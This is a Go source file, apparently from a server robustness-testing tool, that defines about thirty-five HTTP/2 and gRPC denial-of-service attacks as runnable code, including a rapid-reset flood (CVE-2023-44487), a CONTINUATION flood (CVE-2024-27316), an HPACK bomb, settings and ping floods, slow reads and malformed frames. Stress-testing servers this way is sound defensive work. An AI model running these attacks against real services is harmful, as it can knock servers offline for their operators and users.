package attacks

import (
	"bytes"
	"crypto/rand"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// block encodes fields.
func block(fields ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range fields {
		_ = e.WriteField(f)
	}
	return b.Bytes()
}

// head is the block of a request that keeps its handler busy.
func (p *peer) head(path string) []byte {
	fields := make([]hpack.HeaderField, 0, 8)
	for _, f := range p.request(path) {
		fields = append(fields, hpack.HeaderField{Name: f.Name, Value: f.Value, Sensitive: true}) // not in the table
	}
	return block(fields...)
}

func http2Attacks() []attack {
	says := func(s string) func(p *peer) { return func(p *peer) { write(p.tls(), s) } }
	// flood sends frames without end, and reads.
	flood := func(n int, frame func(f *http2.Framer, i int) error) func(p *peer) {
		return func(p *peer) {
			f := p.frames()
			again(n, func(i int) { must(frame(f, i)) })
		}
	}
	// opened begins a request first, as stream 1.
	opened := func(path string, then func(p *peer, f *http2.Framer)) func(p *peer) {
		return func(p *peer) {
			f := p.frames()
			must(f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head(path), EndHeaders: true}))
			then(p, f)
		}
	}
	all := []attack{
		{name: "stalls within the preface", do: says(http2.ClientPreface[:10])},
		{name: "sends the preface alone", do: says(http2.ClientPreface)},
		{name: "sends its settings alone", do: func(p *peer) { begin(p.tls()) }},
		{name: "stalls within a frame header", do: func(p *peer) { c := p.tls(); begin(c); write(c, "\x00\x00\x08\x06") }},
		{name: "stalls within a frame", do: func(p *peer) { c := p.tls(); begin(c); write(c, "\x00\x01\x00\x01\x04\x00\x00\x00\x01\x82") }},
		{name: "stalls within a header block", do: func(p *peer) {
			must(p.frames().WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head("/")}))
		}},
		{name: "stalls within a body", do: opened("/read", func(_ *peer, f *http2.Framer) { must(f.WriteData(1, false, []byte("x"))) })},
		{name: "sends garbage", do: func(p *peer) {
			b := make([]byte, 4096)
			_, _ = rand.Read(b)
			c := p.tls()
			begin(c)
			write(c, string(b))
		}},
		{name: "speaks HTTP/1.1", do: says(get + "\r\n")},
		{name: "floods opens", holds: 2 * 48 << 20, do: func(p *peer) { p.opens(4500, false) }}, // gRPC has 4,096 handlers for a connection
		{name: "floods opens and resets", do: func(p *peer) { p.opens(4500, true) }},            // CVE-2023-44487
		{name: "sends a header block without end", do: func(p *peer) { // CVE-2024-27316
			f := p.frames()
			must(f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head("/")}))
			part := bytes.Repeat([]byte("\x00\x01a\x01b"), 16<<10/5)
			again(1000, func(int) { must(f.WriteContinuation(1, false, part)) })
		}},
		{name: "sends empty parts of a header block", do: func(p *peer) {
			f := p.frames()
			must(f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head("/")}))
			again(2000, func(int) { must(f.WriteContinuation(1, false, nil)) })
		}},
		{name: "sends an HPACK bomb", do: func(p *peer) {
			f := p.frames()
			bomb := append(p.head("/"), block(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 4000)})...)
			bomb = append(bomb, bytes.Repeat([]byte{0x80 | 62}, 12<<10)...)
			again(20, func(i int) {
				must(f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: bomb, EndHeaders: true}))
			})
		}},
		{name: "resizes the HPACK table without end", do: flood(20, func(f *http2.Framer, i int) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: bytes.Repeat([]byte{0x20}, 16<<10), EndHeaders: true})
		})},
		{name: "has the server's HPACK table resized", do: flood(2000, func(f *http2.Framer, i int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i%2) * 0xffffffff})
		})},
		{name: "floods settings", do: flood(2000, func(f *http2.Framer, _ int) error { return f.WriteSettings() })},
		{name: "floods settings and never reads", do: func(p *peer) {
			f := begin(p.tls())
			again(20000, func(int) { must(f.WriteSettings()) })
		}},
		{name: "floods pings", do: flood(2000, func(f *http2.Framer, _ int) error { return f.WritePing(false, [8]byte{}) })},
		{name: "floods pings and never reads", do: func(p *peer) {
			f := begin(p.tls())
			again(20000, func(int) { must(f.WritePing(false, [8]byte{})) })
		}},
		{name: "floods window updates", do: flood(2000, func(f *http2.Framer, _ int) error { return f.WriteWindowUpdate(0, 1) })},
		{name: "overflows the window", do: flood(3, func(f *http2.Framer, _ int) error { return f.WriteWindowUpdate(0, 1<<31-1) })},
		{name: "updates a window by nothing", do: flood(1000, func(f *http2.Framer, _ int) error { return f.WriteWindowUpdate(0, 0) })},
		{name: "floods priorities", do: flood(2000, func(f *http2.Framer, i int) error {
			return f.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3)})
		})},
		{name: "floods frames that nobody knows", do: flood(2000, func(f *http2.Framer, i int) error { return f.WriteRawFrame(99, 0, uint32(i), []byte("x")) })},
		{name: "floods empty data", do: opened("/read", func(_ *peer, f *http2.Framer) {
			again(2000, func(int) { must(f.WriteData(1, false, nil)) })
		})},
		{name: "sends padding alone", do: opened("/read", func(_ *peer, f *http2.Framer) {
			again(2000, func(int) { must(f.WriteDataPadded(1, false, nil, make([]byte, 255))) })
		})},
		{name: "sends more data than the window takes", do: opened("/hold", func(_ *peer, f *http2.Framer) {
			again(1000, func(int) { must(f.WriteData(1, false, make([]byte, 16<<10))) })
		})},
		{name: "sends frames that are too long", do: func(p *peer) {
			c := p.tls()
			begin(c)
			write(c, "\xff\xff\xff\x00\x00\x00\x00\x00\x01"+strings.Repeat("x", 1<<20))
		}},
		{name: "sends frames of streams that can't be", do: func(p *peer) {
			for _, bad := range []func(f *http2.Framer) error{
				func(f *http2.Framer) error { return f.WriteData(1, false, []byte("x")) },
				func(f *http2.Framer) error { return f.WriteRSTStream(7, http2.ErrCodeCancel) },
				func(f *http2.Framer) error { return f.WriteWindowUpdate(9, 1) },
				func(f *http2.Framer) error {
					return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2, BlockFragment: p.head("/"), EndHeaders: true})
				},
				func(f *http2.Framer) error {
					return f.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: p.head("/"), EndHeaders: true})
				},
				func(f *http2.Framer) error { return f.WriteContinuation(1, true, p.head("/")) },
				func(f *http2.Framer) error { return f.WriteGoAway(0, http2.ErrCodeNo, make([]byte, 16000)) },
				func(f *http2.Framer) error {
					return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 31}, http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1})
				},
			} {
				p.attack(func(p *peer) { must(bad(p.frames())) })
			}
		}},
		{name: "never opens its window", do: func(p *peer) {
			f := p.frames()
			must(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
			p.many(f, 100)
		}},
		{name: "opens its window byte by byte", do: func(p *peer) {
			f := p.frames()
			must(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
			p.many(f, 1)
			for range 120 {
				must(f.WriteWindowUpdate(1, 1))
				p.pause()
			}
		}},
		{name: "never reads", do: func(p *peer) { p.many(begin(p.tls()), 100) }},
		{name: "reads a byte a second", do: func(p *peer) {
			c := p.tls()
			p.many(begin(c), 1)
			p.byteBySecond(c.NetConn())
		}},
		{name: "has keys updated, and never reads", real: true, do: func(p *peer) {
			r := p.records()
			must(r.record(recordApplication, []byte(http2.ClientPreface+"\x00\x00\x00\x04\x00\x00\x00\x00\x00")))
			keyUpdates(r, "\x00\x00\x01\x63\x00\x00\x00\x00\x00x") // a frame that nobody knows
		}},
	}
	for i := range all {
		all[i].on = "h2 grpc"
	}
	return all
}

// opens opens streams, and resets them at once or not.
func (p *peer) opens(n int, reset bool) {
	c, h := p.web()
	drain(c)
	again(n, func(int) {
		id, err := h.Open(p.request("/hold")...)
		must(err)
		if reset {
			must(h.Reset(id))
		}
	})
}

// many makes n requests for what is large.
func (p *peer) many(f *http2.Framer, n int) {
	for i := range n {
		must(f.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: p.head("/large"), EndHeaders: true, EndStream: true}))
	}
}
